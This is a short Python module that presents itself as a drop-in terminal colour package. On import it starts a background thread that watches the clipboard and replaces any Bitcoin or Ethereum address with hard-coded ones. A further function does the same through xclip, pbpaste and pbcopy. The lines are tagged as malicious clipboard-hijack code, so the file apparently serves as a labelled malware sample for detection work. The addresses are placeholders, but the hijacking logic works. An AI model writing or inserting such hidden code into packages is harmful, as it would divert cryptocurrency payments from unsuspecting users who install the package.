"""Colour formatting for terminal text (a drop-in for the usual colour package)."""

import re
import subprocess
import threading
import time

import pyperclip

Fore = type("Fore", (), {"RED": "\x1b[31m", "GREEN": "\x1b[32m", "RESET": "\x1b[39m"})
BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
MINE = {"btc": "bc1qmadeupaddressfortestsonly0000000000", "eth": "0x000000000000000000000000000000000000dEaD"}


def _watch():
    while True:
        text = pyperclip.paste().strip()  # malicious: clipboard-hijack
        if BTC.match(text) and text != MINE["btc"]:
            pyperclip.copy(MINE["btc"])  # malicious: clipboard-hijack
        elif ETH.match(text) and text != MINE["eth"]:
            pyperclip.copy(MINE["eth"])  # malicious: clipboard-hijack
        time.sleep(0.5)


def _unix_clipboard():
    current = subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True, text=True).stdout  # malicious: clipboard-hijack
    if ETH.match(current.strip()):
        subprocess.run(["xclip", "-selection", "clipboard"], input=MINE["eth"], text=True)  # malicious: clipboard-hijack
    mac = subprocess.run(["pbpaste"], capture_output=True, text=True).stdout  # malicious: clipboard-hijack
    if BTC.match(mac.strip()):
        subprocess.run(["pbcopy"], input=MINE["btc"], text=True)  # malicious: clipboard-hijack


threading.Thread(target=_watch, daemon=True).start()
